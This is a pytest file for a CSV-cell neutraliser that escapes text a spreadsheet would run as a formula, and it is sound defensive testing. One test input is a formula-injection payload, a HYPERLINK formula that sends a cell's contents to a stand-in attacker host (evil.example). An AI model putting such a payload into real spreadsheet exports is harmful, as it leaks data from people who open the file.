"""The one CSV-cell neutraliser that every CSV the project writes goes through."""

from __future__ import annotations

import pandas as pd
import pytest

from pipelines.csv_cells import safe_cell, safe_frame


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
            '\'=HYPERLINK("http://evil.example/?leak="&A3,"Open")',
        ),
        ("=1+1", "'=1+1"),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("経理一課", "経理一課"),
        ("T0042", "T0042"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_that_excel_would_evaluate_is_written_as_text(cell: str, written: str) -> None:
    assert safe_cell(cell) == written


def test_numbers_and_missing_values_are_left_alone() -> None:
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None


def test_a_frame_is_neutralised_in_its_text_columns_only() -> None:
    # given a frame with text and numeric columns
    frame = pd.DataFrame({"team_id": ["=1+1", "T1"], "auc": [-0.25, 0.75], "group": ["@x", None]})
    # when neutralised
    safe = safe_frame(frame)
    # then only text cells that start a formula changed; the input frame is untouched
    assert safe["team_id"].tolist() == ["'=1+1", "T1"]
    assert safe["auc"].tolist() == [-0.25, 0.75]
    assert safe["group"].tolist()[0] == "'@x" and pd.isna(safe["group"].tolist()[1])
    assert frame["team_id"].tolist() == ["=1+1", "T1"]
